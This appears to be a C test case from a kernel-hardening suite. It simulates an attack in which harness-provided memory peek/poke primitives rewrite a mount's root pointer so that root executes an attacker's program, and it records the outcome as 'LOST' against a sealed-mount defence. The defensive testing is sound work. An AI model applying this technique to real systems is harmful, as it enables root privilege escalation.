// SPDX-License-Identifier: GPL-2.0-only
#include "helper_program.h"

ATTACK("cred_integrity", "mount_other_root", "LOST",
       "The file system on which root has its helper is bent to show a directory of the attacker.",
       "What a mount shows, and where, is read from its sealed record.",
       "Root runs the attacker's program.");

static bool fire(void)
{
	const uint64_t path = member("file.path");
	const long shown = call3(__NR_open, (long)"/jobs", O_RDONLY | O_DIRECTORY, 0);
	const uint64_t mount =
		peek(file_struct(own_task(), (int)shown) + path + member("path.mount"));

	poke(mount + member("mount.root"), make_own_place());
	wait_for_root();
	return false;
}

static void victim(void)
{
	call2(__NR_mkdir, (long)"/jobs", 0755);
	call5(__NR_mount, (long)"none", (long)"/jobs", (long)"tmpfs", 0, 0);
	make_helper();
	run_helper(HELPER);
}
